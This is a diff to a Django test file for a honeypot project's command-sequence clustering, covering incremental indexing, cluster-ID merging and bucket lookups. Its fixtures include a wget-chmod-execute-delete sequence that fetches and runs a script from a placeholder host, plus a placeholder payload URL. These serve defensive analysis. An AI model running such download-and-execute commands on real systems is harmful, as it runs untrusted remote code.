@@ -1,8 +1,13 @@
 from hashlib import sha256
 from unittest.mock import patch
 
-from greedybear.cronjobs.commands.cluster import ClusterCommandSequences, tokenize
-from greedybear.models import IOC, CommandSequence, CowrieSession, IocType
+from django.core.cache import caches
+from django.db.models.functions import Now
+
+from greedybear.cronjobs.commands.cluster import ClusterCommandSequences, clustering_digest, tokenize
+from greedybear.cronjobs.commands.lsh import get_band_ranges
+from greedybear.cronjobs.repositories import IocRepository
+from greedybear.models import IOC, CommandSequence, CommandSequenceBucket, CowrieSession, IocType
 
 from . import CustomTestCase
 
@@ -393,7 +398,7 @@ class ClusterCommandSequencesTestCase(CustomTestCase):
             commands=second_sequence,
         )
 
-        def labels_from_payload_urls(tokenized_sequences):
+        def labels_from_payload_urls(tokenized_sequences, **kwargs):
             payload_signature_to_label = {}
             labels = []
             for tokens in tokenized_sequences:
@@ -466,3 +471,166 @@ class ClusterCommandSequencesTestCase(CustomTestCase):
         self.assertEqual(clustering_input, [expected_tokenized])
         command_sequence.refresh_from_db()
         self.assertEqual(command_sequence.cluster, 99)
+
+
+class IncrementalClusteringTestCase(CustomTestCase):
+    """Tests for the persistent clustering index of ClusterCommandSequences.run()."""
+
+    ECHO = ["echo hello world; uname -a; cat /proc/cpuinfo; free -m"]
+    WGET = ["wget http://example.com/x.sh; chmod +x x.sh; ./x.sh; rm x.sh"]
+    BRIDGE = ECHO + WGET
+
+    def setUp(self):
+        CowrieSession.objects.all().delete()
+        CommandSequence.objects.all().delete()
+
+    def _create(self, commands, cluster=None):
+        return CommandSequence.objects.create(
+            first_seen=self.current_time,
+            last_seen=self.current_time,
+            commands=commands,
+            commands_hash=sha256("\n".join(commands).encode()).hexdigest(),
+            cluster=cluster,
+        )
+
+    def _clusters(self, *seqs):
+        for seq in seqs:
+            seq.refresh_from_db()
+        return [seq.cluster for seq in seqs]
+
+    def test_first_run_indexes_all_sequences(self):
+        first = self._create(self.ECHO, cluster=5)
+        second = self._create(self.WGET, cluster=5)
+        ClusterCommandSequences().run()
+
+        self.assertEqual(self._clusters(first, second), [0, 1])
+        self.assertEqual(first.clustering_digest, clustering_digest(tokenize(self.ECHO)))
+        self.assertEqual(first.clustered, first.updated)
+        self.assertEqual(CommandSequenceBucket.objects.count(), 2 * len(get_band_ranges()))
+
+    def test_run_invalidates_command_sequence_cache(self):
+        shared_cache = caches["django-q"]
+        self._create(self.ECHO)
+        ClusterCommandSequences().run()
+        version = shared_cache.get("command_sequences_version")
+
+        ClusterCommandSequences().run()
+        self.assertEqual(shared_cache.get("command_sequences_version"), version)
+        self._create(self.WGET)
+        ClusterCommandSequences().run()
+        self.assertEqual(shared_cache.get("command_sequences_version"), version + 1)
+
+    def test_unchanged_sequences_are_not_hashed(self):
+        self._create(self.ECHO)
+        ClusterCommandSequences().run()
+        with patch("greedybear.cronjobs.commands.cluster.get_signatures") as mock_hash:
+            ClusterCommandSequences().run()
+            mock_hash.assert_not_called()
+
+    def test_only_updated_sequences_are_retrieved(self):
+        self._create(self.ECHO)
+        ClusterCommandSequences().run()
+        wget = self._create(self.WGET)
+
+        with patch("greedybear.cronjobs.commands.cluster.tokenize", wraps=tokenize) as mock_tokenize:
+            ClusterCommandSequences().run()
+
+        mock_tokenize.assert_called_once_with(self.WGET)
+        self.assertEqual(self._clusters(wget), [1])
+
+    def test_unchanged_clustering_input_is_marked_as_clustered(self):
+        seq = self._create(self.ECHO)
+        ClusterCommandSequences().run()
+        CommandSequence.objects.filter(pk=seq.pk).update(updated=Now())
+
+        with patch("greedybear.cronjobs.commands.cluster.get_signatures") as mock_hash:
+            ClusterCommandSequences().run()
+            mock_hash.assert_not_called()
+        seq.refresh_from_db()
+        self.assertEqual(seq.clustered, seq.updated)
+
+    def test_new_sequences_keep_existing_cluster_ids(self):
+        echo = self._create(self.ECHO)
+        wget = self._create(self.WGET)
+        ClusterCommandSequences().run()
+        CommandSequence.objects.filter(pk=echo.pk).update(cluster=40)
+        CommandSequence.objects.filter(pk=wget.pk).update(cluster=41)
+
+        echo_copy = self._create(self.ECHO + [""])
+        other = self._create(["python3 -c 'import os'"])
+        ClusterCommandSequences().run()
+
+        self.assertEqual(self._clusters(echo, wget, echo_copy, other), [40, 41, 40, 42])
+
+    def test_bridging_sequence_merges_clusters_into_smallest_id(self):
+        echo = self._create(self.ECHO, cluster=7)
+        wget = self._create(self.WGET, cluster=3)
+        bridge = self._create(self.BRIDGE)
+        other = self._create(["id"], cluster=1)
+
+        labels = ClusterCommandSequences()._merge_clusters([echo, wget, bridge, other], {bridge.id: {echo.id, wget.id}}, [bridge.id])
+
+        self.assertEqual(labels, [3, 3, 3, 1])
+
+    def test_bridging_sequence_merges_clusters_that_were_not_retrieved(self):
+        echo = self._create(self.ECHO)
+        wget = self._create(self.WGET)
+        other = self._create(["id"])
+        ClusterCommandSequences().run()
+        CommandSequence.objects.filter(pk__in=[echo.pk, other.pk]).update(cluster=7)
+        CommandSequence.objects.filter(pk=wget.pk).update(cluster=3)
+
+        bridge = self._create(self.BRIDGE)
+        with patch.object(ClusterCommandSequences, "_find_similar", return_value={bridge.id: {echo.id, wget.id}}):
+            ClusterCommandSequences().run()
+
+        self.assertEqual(self._clusters(echo, wget, other, bridge), [3, 3, 3, 3])
+
+    def test_unrelated_new_sequences_get_next_free_ids(self):
+        existing = self._create(self.ECHO, cluster=4)
+        first = self._create(self.WGET)
+        second = self._create(["id"])
+
+        labels = ClusterCommandSequences()._merge_clusters([existing, first, second], {}, [first.id, second.id])
+
+        self.assertEqual(labels, [4, 5, 6])
+
+    def test_changed_clustering_input_is_hashed_again(self):
+        seq = self._create(self.ECHO)
+        ClusterCommandSequences().run()
+        seq.refresh_from_db()
+        old_digest = seq.clustering_digest
+
+        scanner = IOC.objects.create(name="10.0.0.50", type=IocType.IP.value, scanner=True)
+        IOC.objects.create(name="payload.example", type=IocType.DOMAIN.value, payload_request=True, related_urls=["http://payload.example/a"])
+        CowrieSession.objects.create(session_id=int("666666666666", 16), start_time=self.current_time, duration=1.0, source=scanner, commands=seq)
+        IocRepository().link_related_iocs([(scanner.name, "payload.example")])
+        ClusterCommandSequences().run()
+
+        seq.refresh_from_db()
+        self.assertNotEqual(seq.clustering_digest, old_digest)
+        self.assertEqual(seq.cluster, 0)
+        self.assertEqual(CommandSequenceBucket.objects.filter(command_sequence=seq).count(), len(get_band_ranges()))
+
+    def test_find_similar_matches_band_and_bucket(self):
+        first = self._create(self.ECHO)
+        second = self._create(self.WGET)
+        CommandSequenceBucket.objects.bulk_create(
+            [
+                CommandSequenceBucket(command_sequence=first, band=0, bucket=11),
+                CommandSequenceBucket(command_sequence=first, band=1, bucket=-(2**62)),
+                CommandSequenceBucket(command_sequence=second, band=0, bucket=22),
+                CommandSequenceBucket(command_sequence=second, band=1, bucket=11),
+            ]
+        )
+
+        with patch("greedybear.cronjobs.commands.cluster.BUCKET_BATCH_SIZE", 1):
+            similar = ClusterCommandSequences()._find_similar({-1: [11, 11], -2: [22, -(2**62)]})
+
+        self.assertEqual(similar, {-1: {first.id, second.id}, -2: {first.id, second.id}})
+
+    def test_deleted_sequences_drop_their_buckets(self):
+        seq = self._create(self.ECHO)
+        ClusterCommandSequences().run()
+        seq.delete()
+        self.assertFalse(CommandSequenceBucket.objects.exists())